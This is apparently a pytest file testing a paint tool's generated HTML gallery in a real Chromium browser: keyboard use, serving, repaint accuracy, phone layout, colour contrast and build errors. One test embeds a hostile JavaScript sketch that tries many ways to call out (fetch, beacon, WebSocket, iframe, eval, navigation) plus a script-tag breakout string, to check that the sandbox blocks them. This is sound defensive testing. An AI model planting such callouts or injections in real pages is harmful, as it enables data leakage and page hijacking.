"""The gallery as a reader meets it: in a real browser, from disk and served, by keyboard, with hostile sketches."""

import asyncio
import contextlib
import io
import json
import math
import os
import re
import threading
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import analysis_data
import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

from paintcli.analysis import sources
from paintcli.cli.main import app
from paintcli.errors import PaintError, UsageError
from paintcli.publishing import gallery

PAGE = Path(gallery.__file__).parent / "gallery_page"
HOSTILE = """
const there = "http://127.0.0.1:PORT/leak?";
try { fetch(there + "fetch").catch(() => {}); } catch {}
try { new Image().src = there + "image"; } catch {}
try { new WebSocket(there.replace("http", "ws") + "socket"); } catch {}
try { navigator.sendBeacon(there + "beacon"); } catch {}
try { const s = document.createElement("script"); s.src = there + "script"; document.head.append(s); } catch {}
try {
  const s = document.createElement("link");
  Object.assign(s, { rel: "stylesheet", href: there + "style" });
  document.head.append(s);
} catch {}
try { const f = document.createElement("iframe"); f.src = there + "frame"; document.body.append(f); } catch {}
try { eval("fetch(there + 'eval')"); } catch {}
try { window.open(there + "open"); } catch {}
try { top.location = there + "top"; } catch {}
try { parent.document.title = "taken"; } catch {}
try { localStorage.x = 1; parent.postMessage({ error: "storage is open" }, "*"); } catch {}
function setup() {
  createCanvas(600, 600, WEBGL);
  background("#fbf7ee");
  noLoop();
  setTimeout(() => { location = there + "self"; }, 50);
}
"""


def make_run(folder: Path, name: str, steps: int = 4, group: int = 3, code=None) -> Path:
    rows = analysis_data.run(steps=steps, group=group, bad=(0.2, 0.2), seed=len(name))
    (folder / "images").mkdir(parents=True)
    for index, row in enumerate(rows):
        pixels = np.full((120, 120, 3), 250, np.uint8)
        pixels[20:100, 10 : 20 + 8 * (index % 10)] = (200, 60 + 5 * index, 90)
        Image.fromarray(pixels).save(folder / row["file_name"])
        row |= {"run": name, "coverage": 0.05 * (index % 10), "code": code(row) if code else row["code"], "seed": index}
    return analysis_data.write(folder / "metadata.jsonl", rows).parent


@contextlib.contextmanager
def server(handler):
    served = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=served.serve_forever, daemon=True).start()
    try:
        yield served.server_address[1]
    finally:
        served.shutdown()
        served.server_close()


def browse(visit):
    """Run `visit(page, log)` in a real Chromium; returns (its value, everything the console and the network said)."""
    from pyppeteer import launch

    from paintcli.backends.chromium.gl import probe_gl
    from paintcli.backends.chromium.libraries import find_chromium
    from paintcli.backends.chromium.process import GL_ENVIRONMENT, GL_FLAGS

    gl = probe_gl(find_chromium()).name

    async def go():
        browser = await launch(
            executablePath=str(find_chromium()),
            args=["--no-sandbox", *GL_FLAGS[gl], "--disable-background-networking"],
            env=os.environ | GL_ENVIRONMENT.get(gl, {}),
            handleSIGINT=False, handleSIGTERM=False, handleSIGHUP=False, autoClose=False,
        )  # fmt: skip
        log: list[str] = []
        try:
            page = await browser.newPage()
            await page.setViewport({"width": 1280, "height": 900})
            page.on("console", lambda message: log.append(f"{message.type}: {message.text}"))
            page.on("pageerror", lambda error: log.append(f"error: {error}"))
            page.on("requestfailed", lambda request: log.append(f"failed: {request.url}"))
            return await visit(page), log
        finally:
            await browser.close()

    return asyncio.run(go())


async def until(page, script: str, seconds: float = 240):
    for _ in range(int(seconds * 10)):
        if value := await page.evaluate(f"() => {script}"):
            return value
        await asyncio.sleep(0.1)
    raise AssertionError(f"{script} never became true")


NOTE = "document.getElementById('live-note').textContent"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    root = tmp_path_factory.mktemp("gallery")
    runs = [make_run(root / "a", "one"), make_run(root / "b", "second")]
    result = CliRunner().invoke(app, ["gallery", *map(str, runs), "-o", str(root / "site"), "--title", "Two <runs>"])
    assert result.exit_code == 0, result.output
    return root / "site"


@pytest.mark.browser
def test_from_disk_by_keyboard_alone(made):
    async def visit(page):
        await page.goto(f"file://{made}/index.html")
        press = page.keyboard.press
        count = lambda: page.evaluate("() => document.getElementById('count').textContent")  # noqa: E731
        focus = lambda: page.evaluate("() => document.activeElement.getAttribute('aria-label')")  # noqa: E731
        assert await count() == "24 paintings"
        await press("f")
        assert await page.evaluate("() => document.activeElement.id") == "order"
        await page.select("#order", "best")
        await page.select("#violation", "-")
        passed = await count()
        await page.focus("#wall")
        await page.evaluate("() => document.activeElement.blur()")
        await press("ArrowRight")
        best = await focus()
        await press("ArrowRight")
        second = await focus()
        await press("ArrowLeft")
        assert await focus() == best != second
        await press("s")
        await press("Enter")
        code = await until(page, "document.getElementById('code').textContent.length > 100 && code.textContent")
        spans = await page.evaluate("() => document.querySelectorAll('#code span.k').length")
        alt = await page.evaluate("() => document.getElementById('one-image').alt")
        await press("r")
        painted = await until(page, f"{NOTE}.startsWith('painted') && {NOTE}")
        await press("ArrowRight")
        title = await page.evaluate("() => document.getElementById('one-title').textContent")
        await press("Escape")
        # the wall goes on where the reader stopped, once the dialog has said that it is closed
        await until(page, f"document.activeElement.getAttribute('aria-label') === {json.dumps(second)}")
        await press("b")
        both = await page.evaluate("() => document.querySelectorAll('#both[open] img').length")
        return best, alt, code, spans, painted, title, both, passed

    (best, alt, code, spans, painted, title, both, passed), log = browse(visit)
    assert log == []
    assert alt == best and re.search(r"run \w+, reward 0\.\d\d, \d+ % covered", best)
    assert "function setup()" in code and spans >= 2
    assert re.match(r"painted here in \d+\.\d s", painted)
    assert title and both == 1
    assert re.fullmatch(r"\d+ of 24 paintings", passed)


@pytest.mark.browser
def test_served_it_filters_opens_by_address_and_copies(made):
    class Quiet(SimpleHTTPRequestHandler):
        def __init__(self, *args):
            super().__init__(*args, directory=str(made))

        def log_message(self, *args):
            pass

        def send_error(self, code, *args):  # a browser asks for a favicon by itself
            self.send_response(204)
            self.end_headers()

    with server(Quiet) as port:

        async def visit(page):
            await page.goto(f"http://127.0.0.1:{port}/index.html#1-2-1")
            await until(page, "document.getElementById('one').open")
            assert (await page.evaluate("() => document.getElementById('one-title').textContent")).startswith(
                "second, step 2"
            )
            await until(page, "document.getElementById('code').textContent.length > 100")
            await page.click("[data-do=copy]")
            said = await until(page, "document.getElementById('said').textContent")
            await page.keyboard.press("Escape")
            shown = {}
            for name, value in (("run", "0"), ("violation", "+")):
                await page.select(f"#{name}", value)
                shown[name] = await page.evaluate(
                    "() => [...document.querySelectorAll('.card')].map(c => c.getAttribute('aria-label'))"
                )
                await page.select(f"#{name}", "")
            await page.evaluate("() => { low.value = 20; low.dispatchEvent(new Event('change', {bubbles: true})); }")
            shown["low"] = await page.evaluate("() => shown.map(p => p.coverage)")
            return said, shown

        (said, shown), log = browse(visit)
    assert log == [] and said.startswith(("Copied", "Selected"))
    assert len(shown["run"]) == 12 and all("run one" in label for label in shown["run"])
    assert shown["violation"] and all("refused for text_label" in label for label in shown["violation"])
    assert len(shown["low"]) == 12 and min(shown["low"]) >= 0.2


@pytest.mark.browser
@pytest.mark.parametrize("name", ["bloom-pool", "plain-five-circles"])
def test_a_repaint_is_the_picture(tmp_path, name):
    """What the reader's browser paints against what the renderer painted: the same sketch, seed and mask rasteriser."""
    from paintcli.pool import starter

    pool = starter()
    png = (pool / f"images/{name}.png").read_bytes()
    row = {"run": "pool", "step": 0, "position_in_group": 0, "reward": 1.0, "seed": 0, "file_name": "images/0.png"}
    row["code"] = (pool / f"sources/{name}.js").read_text("utf-8")
    run = analysis_data.write(tmp_path / "run/metadata.jsonl", [row]).parent
    (run / "images").mkdir()
    (run / "images/0.png").write_bytes(png)
    gallery.build(sources.load(str(run)), tmp_path / "site", "One")

    async def visit(page):
        await page.goto(f"file://{tmp_path}/site/index.html")
        words = await page.evaluate("() => document.body.innerText + cards[0].getAttribute('aria-label')")
        assert "1.00" in words and "step" not in words.lower()  # one step is none to speak of
        await page.click(".card")
        await until(page, "document.getElementById('code').textContent.length > 100")
        assert await page.evaluate("() => document.getElementById('one-title').textContent") == "reward 1.000"
        await page.keyboard.press("r")
        await until(page, f"{NOTE}.startsWith('painted')")
        # one pixel a pixel, in the corner of the window
        await page.evaluate(
            "() => Object.assign(frame.style, { transform: 'none', position: 'fixed', left: 0, top: 0, zIndex: 9 })"
        )
        await asyncio.sleep(0.5)
        return await page.screenshot({"clip": {"x": 0, "y": 0, "width": 600, "height": 600}})

    shot, log = browse(visit)
    assert log == []
    (tmp_path / "shot.png").write_bytes(shot)
    seen, meant = (np.asarray(Image.open(io.BytesIO(data)).convert("RGB"), float) for data in (shot, png))
    assert psnr(seen, meant) >= 40 > psnr(np.roll(seen, 20, axis=0), meant)


def psnr(one: np.ndarray, two: np.ndarray) -> float:
    """Peak signal-to-noise ratio of two 8-bit pictures in dB; infinite for equal ones."""
    error = ((one - two) ** 2).mean()
    return 10 * math.log10(255**2 / error) if error else math.inf


@pytest.mark.browser
def test_a_hostile_sketch_reaches_nothing(tmp_path):
    hits: list[str] = []

    class Counting(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    with server(Counting) as port:
        run = make_run(tmp_path / "run", "bad", 1, 1, lambda row: HOSTILE.replace("PORT", str(port)) + "</script><b>")
        gallery.build(sources.load(str(run)), tmp_path / "site", "Hostile")

        async def visit(page):
            await page.goto(f"file://{tmp_path}/site/index.html")
            await page.click(".card")
            await until(page, "document.getElementById('code').textContent.length > 100")
            await page.keyboard.press("r")
            await until(page, f"{NOTE} !== 'Painting …' && {NOTE}")
            await asyncio.sleep(1)
            return await page.evaluate(
                "() => [document.title, location.protocol, document.querySelectorAll('b').length]"
            )

        (title, protocol, _), _ = browse(visit)
        # the same words from a page without the policy do arrive: the test can fail
        (tmp_path / "open.html").write_text(
            f"<script>{HOSTILE.replace('PORT', str(port)).split('function')[0]}</script>"
        )

        async def unguarded(page):
            await page.goto(f"file://{tmp_path}/open.html")
            await asyncio.sleep(1)

        guarded = list(hits)
        browse(unguarded)
    assert guarded == []
    assert (title, protocol) == ("Hostile", "file:")
    assert any("image" in hit for hit in hits)


@pytest.mark.browser
def test_on_a_phone_nothing_is_wider_than_the_screen(made):
    async def visit(page):
        await page.setViewport(
            {"width": 375, "height": 740, "isMobile": True, "hasTouch": True, "deviceScaleFactor": 2}
        )
        await page.goto(f"file://{made}/index.html")
        wall = await page.evaluate("() => document.documentElement.scrollWidth")
        await page.tap(".card")
        await until(page, "document.getElementById('code').textContent.length > 100")
        return wall, await page.evaluate("() => [one.scrollWidth, one.clientWidth]")

    (wall, (inside, width)), log = browse(visit)
    assert wall <= 375 and inside <= width and log == []


def contrast(one: str, two: str) -> float:
    """WCAG 2 contrast ratio of two #rrggbb colours."""

    def light(colour):
        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        r, g, b = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
        return 0.2126 * r + 0.7152 * g + 0.0722 * b

    high, low = sorted((light(one), light(two)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_every_text_colour_has_contrast(scheme):
    block = re.findall(r":root \{(.*?)\}", (PAGE / "gallery.css").read_text(), re.S)[scheme]
    colours = dict(re.findall(r"--(\w+): (#\w{6})", block))
    for name in ("ink", "soft", "accent", "key", "string", "number", "comment", "call", "bad"):
        for ground in ("paper", "card"):
            assert contrast(colours[name], colours[ground]) >= 4.5, (name, ground)


def test_the_folder_is_whole_in_itself(made):
    html = (made / "index.html").read_text()
    assert "<title>Two &lt;runs&gt;</title>" in html
    # nothing in the page's own files is fetched from elsewhere
    for name in ("index.html", "gallery.css", "gallery.js"):
        assert not re.search(r"(src|href)=\"https?:|url\(https?:|@import", (made / name).read_text()), name
    data = json.loads((made / "data.js").read_text().removeprefix("const GALLERY = ").removesuffix(";\n"))
    assert len(data["paintings"]) == 24 == len(list((made / "thumbs").iterdir()))
    assert len({entry["id"] for entry in data["paintings"]}) == 24
    licences = (made / "LICENCES.txt").read_text()
    assert "GNU LESSER GENERAL PUBLIC LICENSE" in licences.upper() and "MIT" in licences


def test_what_cannot_be_hung(tmp_path, made):
    run = make_run(tmp_path / "run", "x", 2, 2)
    loaded = sources.load(str(run))
    (tmp_path / "full").mkdir()
    (tmp_path / "full/thesis.txt").write_text("precious")
    with pytest.raises(UsageError, match="holds something that is not a gallery"):
        gallery.build(loaded, tmp_path / "full", "x")
    (run / "images/0-0.png").write_bytes(b"not a picture")
    assert gallery.build(loaded, tmp_path / "site", "x") == 3
    assert gallery.build(loaded, tmp_path / "site", "x") == 3  # again over the old one
    for picture in (run / "images").iterdir():
        picture.write_bytes(b"no")
    with pytest.raises(PaintError, match="None of the pictures could be read"):
        gallery.build(loaded, tmp_path / "other", "x")
    with pytest.raises(UsageError, match="There is no painting in"):
        gallery.build(sources.load(str(Path(__file__).parent / "data/published")), tmp_path / "curve", "x")
